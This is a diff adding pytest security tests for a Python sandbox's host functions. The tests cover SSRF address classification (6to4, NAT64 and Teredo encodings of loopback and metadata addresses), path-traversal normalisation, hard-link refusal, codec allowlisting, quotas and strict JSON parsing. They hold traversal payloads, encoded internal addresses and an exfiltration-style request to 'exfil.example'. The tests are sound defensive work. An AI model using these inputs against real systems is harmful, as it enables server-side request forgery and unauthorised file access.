@@ -13,10 +13,16 @@ from typing import Any
 
 import pytest
 
-from symbiont.errors import SandboxError
+from symbiont.errors import CapabilityError, SandboxError
 from symbiont.host import HostDenied, HostError, read_file
-from symbiont.sandbox.base import Limits, Permissions
-from symbiont.sandbox.hostfns import HostFunctions, address_is_public
+from symbiont.sandbox.base import Limits, Permissions, parse_input
+from symbiont.sandbox.hostfns import (
+    MAX_RECORDED_CALLS,
+    HostFunctions,
+    _text_codec,
+    address_is_public,
+    normalise_path,
+)
 
 
 class _Handler(http.server.BaseHTTPRequestHandler):
@@ -101,6 +107,14 @@ def test_http_get_refuses_loopback_without_private_permission(port: int) -> None
         ("fe80::1", False),
         ("::ffff:127.0.0.1", False),
         ("2606:4700::1111", True),
+        ("2002:7f00:1::1", False),  # 6to4 of 127.0.0.1
+        ("2002:808:808::1", True),  # 6to4 of 8.8.8.8
+        ("64:ff9b::7f00:1", False),  # NAT64 of 127.0.0.1
+        ("64:ff9b::a9fe:a9fe", False),  # NAT64 of 169.254.169.254
+        ("64:ff9b::808:808", True),  # NAT64 of 8.8.8.8
+        ("64:ff9b:1::808:808", False),  # local-use NAT64: cannot be checked
+        ("2001:0:4136:e378:8000:63bf:80ff:fffe", False),  # Teredo, client 127.0.0.1
+        ("::127.0.0.1", False),  # IPv4-compatible
     ],
 )
 def test_address_classification(addr: str, public: bool) -> None:
@@ -263,3 +277,135 @@ def test_host_module_outside_a_sandbox_raises_clearly() -> None:
 
 def test_host_error_classes() -> None:
     assert issubclass(HostDenied, PermissionError) and issubclass(HostError, OSError)
+
+
+# -- under the call's deadline, caps, quotas, the record ---------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("raw", "normal"),
+    [
+        ("/public/../admin", "/admin"),
+        ("/public/%2e%2e/admin", "/admin"),
+        ("/public/%2E./admin", "/admin"),
+        ("/a/./b/../c/", "/a/c/"),
+        ("/a/b/..", "/a/"),
+        ("/..", "/"),
+        ("/%7Euser/%41", "/~user/A"),
+        ("/x%2fy", "/x%2Fy"),
+    ],
+)
+def test_normalise_path(raw: str, normal: str) -> None:
+    assert normalise_path(raw) == normal
+
+
+def test_prefix_allowlist_sees_the_normalised_path_and_sends_it(port: int) -> None:
+    perms = Permissions(http_allow=(f"http://127.0.0.1:{port}/hop/",), allow_private_network=True)
+    h = HostFunctions(perms, Limits())
+    for path in ("/hop/../hello", "/hop/%2e%2e/hello", "/hop/..%2fhello", "/hop/..;/hello"):
+        assert err_kind(call(h, "http_get", url=f"http://127.0.0.1:{port}{path}")) == "denied"
+    # inside the prefix: allowed, requested in normal form (/hop/0 redirects to /hello,
+    # which is outside the prefix, so the redirect is refused)
+    reply = call(h, "http_get", url=f"http://127.0.0.1:{port}/hop/x/../0")
+    assert err_kind(reply) == "denied"
+    assert h.calls[-1].name == "http_get"
+
+
+def test_the_call_deadline_bounds_every_host_function(data: Path, port: int) -> None:
+    h = HostFunctions(
+        Permissions(
+            data_dir=data,
+            read_files=True,
+            write_files=True,
+            http_allow=("127.0.0.1",),
+            allow_private_network=True,
+        ),
+        Limits(http_timeout_s=30),
+    )
+    h.deadline = time.monotonic() + 0.4
+    started = time.monotonic()
+    assert err_kind(call(h, "http_get", url=f"http://127.0.0.1:{port}/slow")) == "timeout"
+    assert time.monotonic() - started < 1.0
+    h.deadline = time.monotonic() - 0.01
+    for name, args in (
+        ("read_file", {"path": "a.txt"}),
+        ("write_file", {"path": "b", "content": "x"}),
+    ):
+        assert err_kind(call(h, name, **args)) == "timeout"
+    assert not (data / "b").exists()
+
+
+def test_path_caps_before_the_filesystem(data: Path) -> None:
+    h = rw(data)
+    started = time.monotonic()
+    for path in ("a/" * 300_000, "/".join(["d"] * 33) + "/x", "n" * 256):
+        reply = call(h, "read_file", path=path)
+        assert err_kind(reply) == "invalid", reply
+        assert err_kind(call(h, "write_file", path=path, content="x")) == "invalid"
+    assert time.monotonic() - started < 0.5
+    assert call(h, "write_file", path="/".join(["d"] * 31) + "/x", content="deep") == {"ok": None}
+
+
+def test_write_quotas_count_what_is_there(data: Path) -> None:
+    perms = Permissions(
+        data_dir=data, read_files=True, write_files=True, max_data_bytes=1000, max_data_entries=4
+    )
+    h = HostFunctions(perms, Limits())  # a.txt (5 bytes) is there already
+    assert call(h, "write_file", path="b.txt", content="x" * 900) == {"ok": None}
+    reply = call(h, "write_file", path="c.txt", content="x" * 200)
+    assert err_kind(reply) == "too_large" and "max_data_bytes" in reply["error"]["message"]
+    assert call(h, "write_file", path="b.txt", content="y" * 990) == {"ok": None}  # replaces
+    assert call(h, "write_file", path="c.txt", content="") == {"ok": None}
+    assert call(h, "write_file", path="d.txt", content="") == {"ok": None}
+    reply = call(h, "write_file", path="e.txt", content="")
+    assert err_kind(reply) == "too_large" and "max_data_entries" in reply["error"]["message"]
+    # a new call measures the folder again
+    again = HostFunctions(perms, Limits())
+    assert err_kind(call(again, "write_file", path="sub/f.txt", content="")) == "too_large"
+
+
+def test_hard_links_are_refused(data: Path, tmp_path: Path) -> None:
+    os.link(tmp_path / "secret.txt", data / "hl.txt")
+    h = rw(data)
+    assert err_kind(call(h, "read_file", path="hl.txt")) == "denied"
+    assert err_kind(call(h, "write_file", path="hl.txt", content="pwned")) == "denied"
+    assert (tmp_path / "secret.txt").read_text() == "secret"
+
+
+def test_response_codecs_are_allowlisted() -> None:
+    assert _text_codec(None) == "utf-8"
+    assert _text_codec("ISO-8859-1") in ("iso8859-1", "latin-1")
+    assert _text_codec("windows-1252") == "cp1252"
+    assert _text_codec("x-made-up") == "utf-8"
+    for name in ("punycode", "idna", "unicode_escape", "rot13", "base64", "zlib", "utf-7"):
+        with pytest.raises(Exception, match="charset"):
+            _text_codec(name)
+
+
+def test_the_record_folds_harmless_calls_but_keeps_every_http_get_and_write(data: Path) -> None:
+    h = HostFunctions(Permissions(data_dir=data, write_files=True), Limits())
+    for _ in range(MAX_RECORDED_CALLS + 7):
+        h.dispatch("now_ms", "{}")
+    call(h, "http_get", url="https://exfil.example/?d=1")
+    call(h, "write_file", path="x.txt", content="x")
+    names = [c.name for c in h.calls]
+    assert names[-3:] == ["http_get", "write_file", "folded"]
+    assert h.calls[-1].args == "calls=7" and h.folded_calls == 7
+    assert "exfil.example" in h.calls[-3].args
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["[" * 100_000 + "]" * 100_000, '{"a": NaN}', "[Infinity]", "[1e400]", '{"k": 1, "k": 2}'],
+)
+def test_parse_input_is_strict_and_never_recurses(text: str) -> None:
+    with pytest.raises(CapabilityError, match="not valid JSON"):
+        parse_input(text)
+
+
+def test_parse_input_accepts_ordinary_json() -> None:
+    assert parse_input('{"a": [1, 2.5, "[[{"], "b": {"c": null}}') == {
+        "a": [1, 2.5, "[[{"],
+        "b": {"c": None},
+    }
+    assert parse_input("[" * 100 + "]" * 100) is not None
